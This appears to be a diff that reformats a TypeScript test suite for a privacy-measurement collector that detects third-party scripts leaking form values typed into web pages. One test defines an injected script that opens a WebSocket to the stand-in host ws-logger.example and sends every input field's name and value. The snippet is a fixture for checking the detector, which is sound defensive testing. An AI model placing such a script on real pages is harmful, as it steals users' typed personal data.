@@ -15,13 +15,19 @@ beforeAll(async () => {
   wsServer = createServer((_req, res) => res.writeHead(404).end());
   wsServer.on('upgrade', (req, socket: Socket) => {
     wsSockets.add(socket);
-    const accept = createHash('sha1').update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
-    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
+    const accept = createHash('sha1')
+      .update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
+      .digest('base64');
+    socket.write(
+      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
+    );
     socket.on('data', () => {});
     socket.on('error', () => {});
   });
   await new Promise<void>((resolve) => wsServer.listen(0, '127.0.0.1', resolve));
-  harness = await startHarness([`MAP ws-logger.example 127.0.0.1:${(wsServer.address() as AddressInfo).port}`]);
+  harness = await startHarness([
+    `MAP ws-logger.example 127.0.0.1:${(wsServer.address() as AddressInfo).port}`,
+  ]);
 });
 afterAll(async () => {
   await harness?.stop();
@@ -31,39 +37,74 @@ afterAll(async () => {
 
 /** Every typed sentinel and each of its encodings: none may appear in any output. */
 function sentinelNeedles(runtime: ArmRuntimeState): string[] {
-  return typedSentinels(runtime.context).flatMap((sentinel) => [sentinel.value, ...sentinel.needles.map((n) => n.needle)]);
+  return typedSentinels(runtime.context).flatMap((sentinel) => [
+    sentinel.value,
+    ...sentinel.needles.map((n) => n.needle),
+  ]);
 }
 
 describe('key logging collector', () => {
   it('catches a third-party script sending typed values (base64 body, SHA-256 URL) before submit', async () => {
-    const { results: [hits], runtime } = await runArm(harness, 'https://keylogger-shop.example/', [createKeyLoggingCollector()], {
-      settle: () => harness.web.waitForRequest((r) => r.host === 'input-analytics.example' && r.path === '/v2/forms.js'),
+    const {
+      results: [hits],
+      runtime,
+    } = await runArm(harness, 'https://keylogger-shop.example/', [createKeyLoggingCollector()], {
+      settle: () =>
+        harness.web.waitForRequest(
+          (r) => r.host === 'input-analytics.example' && r.path === '/v2/forms.js',
+        ),
     });
     const typed = typedSentinels(runtime.context);
     // Email, full name, phone and the search box; never the password field.
-    expect(typed.map((sentinel) => sentinel.fieldKind)).toEqual(['email', 'name', 'phone', 'other']);
-    const summary = hits.map((hit) => [hit.destinationHost, hit.fieldKind, hit.encoding, hit.carrier]);
-    expect(summary).toEqual(expect.arrayContaining([
-      ['input-analytics.example', 'email', 'base64', 'body'],
-      ['input-analytics.example', 'name', 'base64', 'body'],
-      ['input-analytics.example', 'phone', 'base64', 'body'],
-      ['input-analytics.example', 'other', 'base64', 'body'],
-      ['input-analytics.example', 'email', 'sha256', 'url'],
-    ]));
-    expect(hits.every((hit) => hit.destinationHost === 'input-analytics.example' && hit.phase === 'before_consent')).toBe(true);
+    expect(typed.map((sentinel) => sentinel.fieldKind)).toEqual([
+      'email',
+      'name',
+      'phone',
+      'other',
+    ]);
+    const summary = hits.map((hit) => [
+      hit.destinationHost,
+      hit.fieldKind,
+      hit.encoding,
+      hit.carrier,
+    ]);
+    expect(summary).toEqual(
+      expect.arrayContaining([
+        ['input-analytics.example', 'email', 'base64', 'body'],
+        ['input-analytics.example', 'name', 'base64', 'body'],
+        ['input-analytics.example', 'phone', 'base64', 'body'],
+        ['input-analytics.example', 'other', 'base64', 'body'],
+        ['input-analytics.example', 'email', 'sha256', 'url'],
+      ]),
+    );
+    expect(
+      hits.every(
+        (hit) =>
+          hit.destinationHost === 'input-analytics.example' && hit.phase === 'before_consent',
+      ),
+    ).toBe(true);
     for (const hit of hits) expect(hit.tMs).toBeGreaterThan(0);
     // Nothing was submitted.
-    expect(harness.web.requestsTo('keylogger-shop.example').some((r) => r.path === '/order' || r.path === '/search')).toBe(false);
+    expect(
+      harness.web
+        .requestsTo('keylogger-shop.example')
+        .some((r) => r.path === '/order' || r.path === '/search'),
+    ).toBe(false);
     expect(leaks(hits, sentinelNeedles(runtime))).toEqual([]);
   });
 
   it('does not count first-party requests or third parties that get no typed value', async () => {
-    const { results: [hits], runtime } = await runArm(harness, 'https://quiet-inputs.example/', [createKeyLoggingCollector()], {
+    const {
+      results: [hits],
+      runtime,
+    } = await runArm(harness, 'https://quiet-inputs.example/', [createKeyLoggingCollector()], {
       settle: () => sleep(300),
     });
     expect(typedSentinels(runtime.context).length).toBeGreaterThanOrEqual(3);
     // The typed name did leave the page — to the site itself.
-    expect(harness.web.requestsTo('quiet-inputs.example').some((r) => r.path === '/suggest')).toBe(true);
+    expect(harness.web.requestsTo('quiet-inputs.example').some((r) => r.path === '/suggest')).toBe(
+      true,
+    );
     expect(hits).toEqual([]);
   });
 
@@ -72,26 +113,42 @@ describe('key logging collector', () => {
     const socketLogger = {
       name: 'socket-logger-script',
       install: async (runtime: ArmRuntimeState) => {
-        await runtime.context.addInitScript({ content: `(() => {
+        await runtime.context.addInitScript({
+          content: `(() => {
           const ws = new WebSocket('ws://ws-logger.example/stream');
           document.addEventListener('input', (event) => {
             if (ws.readyState === 1 && event.target && event.target.value) ws.send(JSON.stringify({ k: event.target.name, v: event.target.value }));
           }, true);
-        })();` });
+        })();`,
+        });
       },
       collect: async () => null,
     };
-    const { results: [, hits] } = await runArm(harness, 'http://quiet-inputs.example/', [socketLogger, createKeyLoggingCollector()], {
-      settle: () => sleep(300),
-    });
-    expect(hits.map((hit) => [hit.destinationHost, hit.carrier, hit.encoding])).toEqual(expect.arrayContaining([
-      ['ws-logger.example', 'websocket', 'plain'],
-    ]));
-    expect(new Set(hits.map((hit) => hit.fieldKind))).toEqual(new Set(['email', 'name', 'phone', 'other']));
+    const {
+      results: [, hits],
+    } = await runArm(
+      harness,
+      'http://quiet-inputs.example/',
+      [socketLogger, createKeyLoggingCollector()],
+      {
+        settle: () => sleep(300),
+      },
+    );
+    expect(hits.map((hit) => [hit.destinationHost, hit.carrier, hit.encoding])).toEqual(
+      expect.arrayContaining([['ws-logger.example', 'websocket', 'plain']]),
+    );
+    expect(new Set(hits.map((hit) => hit.fieldKind))).toEqual(
+      new Set(['email', 'name', 'phone', 'other']),
+    );
   });
 
   it('collects nothing when the probe did not run', async () => {
-    const { results: [hits] } = await runArm(harness, 'https://keylogger-shop.example/', [createKeyLoggingCollector()], { probe: false, settle: () => sleep(300) });
+    const {
+      results: [hits],
+    } = await runArm(harness, 'https://keylogger-shop.example/', [createKeyLoggingCollector()], {
+      probe: false,
+      settle: () => sleep(300),
+    });
     expect(hits).toEqual([]);
   });
 });
